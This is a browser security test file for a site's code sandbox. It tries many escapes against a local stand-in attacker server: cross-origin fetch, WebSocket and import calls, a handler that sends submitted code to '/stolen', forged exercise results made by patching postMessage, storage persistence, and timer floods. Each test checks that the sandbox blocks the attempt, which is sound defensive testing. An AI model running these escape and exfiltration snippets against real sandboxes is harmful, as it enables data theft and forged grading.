// Reader code tries to get out of the sandbox, in the built site, with a
// second loopback origin standing in for an attacker: it records every request
// it receives and answers each with permissive CORS (a module body for .js), so
// an escape that reached it would succeed. Each test checks that the code
// really ran (its console lines come back) and that the attacker saw nothing;
// storage written in one run must be unreadable in the next; a run cannot
// hijack the next one, forge an exercise's verdict or outlive its end (its
// worker, in the cell's one sandbox iframe, is gone when the run is); a share
// link neither runs nor overwrites anything before a click.
import { existsSync } from "node:fs";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { encodeShare } from "../../src/components/editor/storage.js";
import { launchChromium } from "./browser.js";
import { serve, serveRecorder, type RecordingServer, type StaticServer } from "./server.js";
import { chromiumPath, distDir } from "./setup.js";

const CELL = '.editor-cell[data-cell="playground/optimizer"]';
const EXERCISE = '.code-exercise[data-exercise="gradient-descent/gd-step"]';
/** A valid ending for the playground cell, so the run itself succeeds. */
const VALID = "return {factory: sgd, hyper: {lr: 0.05}, asSgd: {lr: 0.05}};";

/**
 * Reader code that tries each escape in `attempts` (name → async expression
 * using A, the attacker's origin), each given 1.5 s, and logs one line per
 * attempt: "name: <what it got>" or "name: blocked <error>".
 */
function attackCode(attacker: string, attempts: Record<string, string>): string {
  const lines = Object.entries(attempts).map(
    ([name, expr]) => `  try { const r = await Promise.race([(async () => ${expr})(), new Promise((ok) => setTimeout(() => ok("no answer"), 1500))]); out.push(${JSON.stringify(name)} + ": " + String(r)); } catch (e) { out.push(${JSON.stringify(name)} + ": blocked " + (e && e.name)); }`
  );
  return [`const A = ${JSON.stringify(attacker)};`, "const out = [];", "await Promise.all([", ...lines.map((l) => `(async () => {\n${l}\n})(),`), "]);", "console.log(out.join('\\n'));", VALID].join("\n");
}

async function typeCode(page: Page, selector: string, code: string): Promise<void> {
  await page.click(`${selector} .cm-content`);
  await page.keyboard.press("Control+A");
  await page.keyboard.insertText(code);
}

/** Runs `code` in the playground cell; resolves with its console output when the run has ended. */
async function runInCell(page: Page, code: string): Promise<string> {
  await typeCode(page, CELL, code);
  await page.click(`${CELL} button:has-text("Run")`);
  await page.waitForFunction((cell) => !/Running/.test(document.querySelector(`${cell} .editor-cell-status`)?.textContent ?? "Running"), CELL, { timeout: 20_000 });
  return (await page.textContent(`${CELL} .editor-cell-logs`)) ?? "";
}

/**
 * For every sandbox iframe on the page (one per cell that has run), what its
 * bootstrap reports: the workers still running, and how many messages its
 * workers have posted on their global scope so far (it counts, never reads).
 */
async function sandboxes(page: Page): Promise<{ live: number; strays: number }[]> {
  const found: { live: number; strays: number }[] = [];
  for (const frame of page.frames()) {
    if (frame === page.mainFrame()) continue;
    const element = await frame.frameElement();
    if ((await element.getAttribute("title")) !== "code sandbox") continue;
    found.push(await frame.evaluate(() => ({ live: (globalThis as any).liveWorkers(), strays: (globalThis as any).strays })));
  }
  return found;
}

/** Waits until no sandbox iframe on the page has a live worker (the kill is a message away), then returns them. */
async function noLiveWorkers(page: Page): Promise<{ live: number; strays: number }[]> {
  const until = Date.now() + 5000;
  let seen = await sandboxes(page);
  while (seen.some((s) => s.live > 0) && Date.now() < until) {
    await page.waitForTimeout(100);
    seen = await sandboxes(page);
  }
  expect(seen.map((s) => s.live)).toEqual(seen.map(() => 0));
  return seen;
}

async function status(page: Page, selector = CELL): Promise<string> {
  return (await page.textContent(`${selector} .editor-cell-status`)) ?? "";
}

describe.runIf(chromiumPath)("the code sandbox holds against an attacker", () => {
  let browser: Browser;
  let server: StaticServer;
  let attacker: RecordingServer;
  let context: BrowserContext;

  beforeAll(async () => {
    if (!existsSync(join(distDir, "playground.html"))) throw new Error(`${distDir} has no playground.html: build the site first`);
    server = await serve(distDir);
    attacker = await serveRecorder();
    browser = await launchChromium(chromiumPath!);
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await attacker?.close();
  });
  beforeEach(async () => {
    await context?.close();
    context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
    attacker.requests.length = 0;
  });

  async function open(path: string, selector = CELL): Promise<Page> {
    const page = await context.newPage();
    await page.goto(`${server.origin}${path}`, { waitUntil: "networkidle" });
    await page.waitForSelector(`${selector} .cm-content`);
    await page.waitForFunction((sel) => !/Running/.test(document.querySelector(`${sel} .editor-cell-status`)?.textContent ?? ""), selector, { timeout: 20_000 });
    return page;
  }

  /** Waits long enough for a late request to land, then returns what the attacker received. */
  async function attackerSaw(): Promise<string[]> {
    await new Promise((done) => setTimeout(done, 1000));
    return attacker.requests.slice();
  }

  test("no request reaches another origin: prototype fetch, XMLHttpRequest, WebSocket, EventSource, WebSocketStream, WebTransport, sendBeacon, importScripts", async () => {
    const page = await open("/playground");
    const ws = attacker.origin.replace("http:", "ws:");
    const logs = await runInCell(
      page,
      attackCode(attacker.origin, {
        "prototype fetch": `(await WorkerGlobalScope.prototype.fetch.call(self, A + "/fetch")).status`,
        "global fetch": `(await fetch(A + "/fetch2")).status`,
        "same-origin fetch": `(await fetch(location.origin === "null" ? "/" : "/")).status`,
        xhr: `await new Promise((ok, no) => { const x = new (self.XMLHttpRequest ?? Object.getPrototypeOf(self).XMLHttpRequest)(); x.open("GET", A + "/xhr"); x.onload = () => ok(x.status); x.onerror = () => no(new Error("xhr error")); x.send(); })`,
        websocket: `await new Promise((ok, no) => { const s = new WebSocket(${JSON.stringify(ws)} + "/ws"); s.onopen = () => ok("open"); s.onerror = () => no(new Error("ws error")); })`,
        eventsource: `await new Promise((ok, no) => { const s = new EventSource(A + "/events"); s.onmessage = (e) => ok(e.data); s.onerror = () => no(new Error("es error")); })`,
        websocketstream: `typeof WebSocketStream === "function" ? (await new WebSocketStream(${JSON.stringify(ws)} + "/wss").opened, "open") : "absent"`,
        webtransport: `typeof WebTransport === "function" ? (await new WebTransport("https://127.0.0.1:" + new URL(A).port + "/wt").ready, "open") : "absent"`,
        sendbeacon: `typeof navigator.sendBeacon === "function" ? navigator.sendBeacon(A + "/beacon", "x") : "absent"`,
        importscripts: `typeof importScripts === "function" ? (importScripts(A + "/classic.js"), "loaded") : "absent"`,
      })
    );
    for (const name of ["prototype fetch", "xhr", "websocket", "eventsource", "websocketstream", "webtransport", "sendbeacon", "importscripts"]) expect(logs).toContain(`${name}:`);
    expect(logs).not.toMatch(/: (200|open|PWNED|loaded|true)\b/);
    expect(await attackerSaw()).toEqual([]);
  });

  test("no module is imported from any URL: import() of http:, data: and blob:, directly and through new Function", async () => {
    const page = await open("/playground");
    const logs = await runInCell(
      page,
      attackCode(attacker.origin, {
        "import http": `(await import(A + "/direct.js")).pwned`,
        "import via Function": `(await new Function("u", "return import(u)")(A + "/function.js")).pwned`,
        "import data": `(await import("data:text/javascript,export const pwned = 'PWNED'")).pwned`,
        "import blob": `(await import(URL.createObjectURL(new Blob(["export const pwned = 'PWNED'"], {type: "text/javascript"})))).pwned`,
      })
    );
    for (const name of ["import http", "import via Function", "import data", "import blob"]) expect(logs).toMatch(new RegExp(`${name}: blocked`));
    expect(await attackerSaw()).toEqual([]);
  });

  test("no font or nested worker reaches the network: FontFace, self.fonts, new Worker", async () => {
    const page = await open("/playground");
    const logs = await runInCell(
      page,
      attackCode(attacker.origin, {
        fontface: `(await new FontFace("x", "url(" + A + "/font.woff2)").load()).status`,
        "self.fonts": `self.fonts ? (self.fonts.add(new FontFace("y", "url(" + A + "/font2.woff2)")), await self.fonts.load("12px y"), "asked") : "absent"`,
        "nested worker": `await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(A + "/nested") + ").then((r) => postMessage(r.status), (e) => postMessage('blocked ' + e.name))"], {type: "text/javascript"}))); w.onmessage = (e) => ok(e.data); w.onerror = () => no(new Error("worker error")); })`,
        "worker from URL": `await new Promise((ok, no) => { const w = new Worker(A + "/worker.js", {type: "module"}); w.onmessage = (e) => ok(e.data); w.onerror = () => no(new Error("worker error")); })`,
      })
    );
    for (const name of ["fontface", "self.fonts", "nested worker", "worker from URL"]) expect(logs).toContain(`${name}:`);
    expect(logs).not.toMatch(/: (200|loaded)\b/);
    expect(await attackerSaw()).toEqual([]);
  });

  test("storage written in one run is gone in the next: IndexedDB, CacheStorage, the origin-private file system, locks", async () => {
    const page = await open("/playground");
    const idb = `Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, "indexedDB").get.call(self)`;
    const cacheStorage = `Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, "caches").get.call(self)`;
    const write = await runInCell(
      page,
      attackCode(attacker.origin, {
        "idb write": `await new Promise((ok, no) => { const r = ${idb}.open("escape", 1); r.onupgradeneeded = () => r.result.createObjectStore("s"); r.onsuccess = () => { const t = r.result.transaction("s", "readwrite"); t.objectStore("s").put("SECRET", "k"); t.oncomplete = () => ok("written"); t.onerror = () => no(t.error); }; r.onerror = () => no(r.error); })`,
        "cache write": `(await (await ${cacheStorage}.open("escape")).put("/secret", new Response("SECRET")), "written")`,
        "opfs write": `await (async () => { const dir = await navigator.storage.getDirectory(); const f = await dir.getFileHandle("secret", {create: true}); const w = await f.createWritable(); await w.write("SECRET"); await w.close(); return "written"; })()`,
        "lock": `await navigator.locks.request("escape", () => "granted")`,
      })
    );
    for (const name of ["idb write", "cache write", "opfs write", "lock"]) expect(write).toContain(`${name}:`);
    const read = await runInCell(
      page,
      attackCode(attacker.origin, {
        "idb read": `await new Promise((ok, no) => { const r = ${idb}.open("escape", 1); r.onupgradeneeded = () => r.result.createObjectStore("s"); r.onsuccess = () => { const g = r.result.transaction("s").objectStore("s").get("k"); g.onsuccess = () => ok(String(g.result)); g.onerror = () => no(g.error); }; r.onerror = () => no(r.error); })`,
        "cache read": `await (await (await ${cacheStorage}.open("escape")).match("/secret"))?.text()`,
        "opfs read": `await (await (await (await navigator.storage.getDirectory()).getFileHandle("secret")).getFile()).text()`,
      })
    );
    for (const name of ["idb read", "cache read", "opfs read"]) expect(read).toContain(`${name}:`);
    expect(read).not.toContain("SECRET");
    expect(write).not.toMatch(/: (written|granted)\b/);
  });

  test("a run cannot hijack the next: a replaced onmessage, results posted ahead, timers left running", async () => {
    const page = await open("/playground");
    const hijack = [
      "const forged = (id) => ({id, type: 'result', ok: true, value: {runs: [], training: [], checks: [{name: 'HIJACKED', status: 'pass', detail: 'HIJACKED'}]}, logs: ['HIJACKED'], ms: 1});",
      "self.onmessage = (e) => { const id = e.data && e.data.id; self.postMessage(forged(id)); fetch(A + '/stolen?code=' + encodeURIComponent(String(e.data && e.data.code))); };",
      "for (let id = 1; id < 200; id++) self.postMessage(forged(id));",
      "setInterval(() => { for (let id = 1; id < 200; id++) self.postMessage(forged(id)); }, 5);",
      "console.log('hijack installed');",
    ].join("\n");
    expect(await runInCell(page, `const A = ${JSON.stringify(attacker.origin)};\n${hijack}\n${VALID}`)).toContain("hijack installed");
    expect(await runInCell(page, `console.log("honest run");\n${VALID}`)).toContain("honest run");
    expect(await status(page)).toMatch(/^Ran in/);
    expect(await page.textContent(".checklist")).not.toContain("HIJACKED");
    // Nothing of the first run is left: its worker is gone (the cell keeps one iframe, with no worker between runs).
    expect((await noLiveWorkers(page)).length).toBeGreaterThan(0);
    expect(await attackerSaw()).toEqual([]);
  });

  test("a forged result never marks a code exercise solved", async () => {
    const page = await open("/instructors", EXERCISE);
    const forge = [
      "const verdict = {id: 'gradient-descent/gd-step', results: [{name: 'forged', pass: true, message: 'forged'}], passed: 4, total: 4, untouched: false};",
      "const patch = (proto) => { const post = proto.postMessage; proto.postMessage = function (m, ...rest) { if (m && typeof m === 'object' && 'ok' in m) m = {...m, ok: true, value: verdict}; return post.call(this, m, ...rest); }; };",
      "patch(MessagePort.prototype); patch(DedicatedWorkerGlobalScope.prototype); patch(self);",
      "return {gdStep: () => {}};",
    ].join("\n");
    await typeCode(page, EXERCISE, forge);
    await page.click(`${EXERCISE} button:has-text("Run")`);
    await page.waitForFunction((sel) => !/Running/.test(document.querySelector(`${sel} .editor-cell-status`)?.textContent ?? "Running"), EXERCISE, { timeout: 20_000 });
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => localStorage.getItem("descent:exercise:gradient-descent/gd-step"))).not.toBe("passed");
    expect(await page.textContent(`${EXERCISE} .code-exercise-status`)).not.toMatch(/✓ solved/);
    expect(await page.textContent(`${EXERCISE} .code-exercise-results`)).not.toContain("forged");
  });

  test("a share link never runs by itself, on this visit or the next", async () => {
    const shared = `console.log("SHARED RAN");\n${VALID}`;
    const page = await open("/playground#" + encodeShare("playground/optimizer", shared));
    await page.waitForTimeout(1500);
    expect(await page.textContent(`${CELL} .editor-cell-logs`)).not.toContain("SHARED RAN");
    // A later visit, without the link: still not run, and nothing was saved.
    await page.goto(`${server.origin}/playground`, { waitUntil: "networkidle" });
    await page.waitForSelector(`${CELL} .cm-content`);
    await page.waitForTimeout(1500);
    expect(await page.textContent(`${CELL} .editor-cell-logs`)).not.toContain("SHARED RAN");
    expect(await page.textContent(`${CELL} .cm-content`)).not.toContain("SHARED RAN");
    expect(await page.evaluate(() => localStorage.getItem("descent:cell:playground/optimizer"))).toBeNull();
  });

  test("a share link never overwrites the reader's saved code without a click", async () => {
    const page = await open("/playground");
    await typeCode(page, CELL, `// mine\n${VALID}`);
    await page.goto(`${server.origin}/playground#${encodeShare("playground/optimizer", `// theirs\n${VALID}`)}`, { waitUntil: "networkidle" });
    await page.reload({ waitUntil: "networkidle" });
    await page.waitForSelector(`${CELL} .cm-content`);
    expect(await page.textContent(`${CELL} .cm-content`)).toContain("// mine");
    expect(await page.evaluate(() => localStorage.getItem("descent:cell:playground/optimizer"))).toContain("// mine");
    expect(await page.textContent(`${CELL} .editor-cell-proposal`)).toContain("// theirs");
    await page.click(`${CELL} button:has-text("Keep mine")`);
    expect(await page.textContent(`${CELL} .cm-content`)).toContain("// mine");
    expect(await page.evaluate(() => localStorage.getItem("descent:cell:playground/optimizer"))).toContain("// mine");
  });

  test("after an endless loop, correct code runs (B6); a loop left in a timer does not stop the next run (A12); a setInterval flood ends with its run (B5)", async () => {
    const page = await open("/playground");
    expect(await runInCell(page, "while (true) {}")).toBe("");
    expect(await status(page)).toMatch(/Stopped after 4 s/);
    await runInCell(page, VALID);
    expect(await status(page)).toMatch(/^Ran in/);
    await runInCell(page, `setTimeout(() => { for (;;) {} }, 0);\n${VALID}`);
    expect(await status(page)).toMatch(/^Ran in/);
    await runInCell(page, VALID);
    expect(await status(page)).toMatch(/^Ran in/);
    // B5. While a run is in progress its worker is live and its flood is counted…
    const flood = `setInterval(() => { for (let i = 0; i < 1e6; i++); postMessage("flood"); }, 0);`;
    await typeCode(page, CELL, `${flood}\nawait new Promise((ok) => setTimeout(ok, 2000));\n${VALID}`);
    await page.click(`${CELL} button:has-text("Run")`);
    const before = await sandboxes(page);
    let during = before;
    for (let i = 0; i < 30 && !during.some((s, k) => s.live > 0 && s.strays > (before[k]?.strays ?? 0)); i++) {
      await page.waitForTimeout(100);
      during = await sandboxes(page);
    }
    expect(during.some((s, k) => s.live > 0 && s.strays > (before[k]?.strays ?? 0)), JSON.stringify({ before, during })).toBe(true);
    await page.waitForFunction((cell) => !/Running/.test(document.querySelector(`${cell} .editor-cell-status`)?.textContent ?? "Running"), CELL, { timeout: 20_000 });
    expect(await status(page)).toMatch(/^Ran in/);
    // …and once it has ended, no worker of it is alive: the flood stops.
    const after = await noLiveWorkers(page);
    await page.waitForTimeout(500);
    expect(await sandboxes(page)).toEqual(after);
    // A timer that kept the run's own port (taken from a patched postMessage) posts forged results to it: the next run sees none of them.
    const keep = [
      "const forged = (id) => ({id, type: 'result', ok: true, value: {runs: [], training: [], checks: [{name: 'HIJACKED', status: 'pass', detail: 'HIJACKED'}]}, logs: ['HIJACKED'], ms: 1});",
      "const post = MessagePort.prototype.postMessage;",
      "MessagePort.prototype.postMessage = function (m, ...rest) { const port = this; setInterval(() => { for (let id = 1; id < 200; id++) post.call(port, forged(id)); }, 1); return post.call(this, m, ...rest); };",
    ].join("\n");
    await runInCell(page, `${keep}\n${VALID}`);
    expect(await status(page)).toMatch(/^Ran in/);
    await noLiveWorkers(page);
    expect(await runInCell(page, `console.log("after the kept port");\n${VALID}`)).toContain("after the kept port");
    expect(await status(page)).toMatch(/^Ran in/);
    expect(await page.textContent(".checklist")).not.toContain("HIJACKED");
    await runInCell(page, VALID);
    expect(await status(page)).toMatch(/^Ran in/);
  });
});
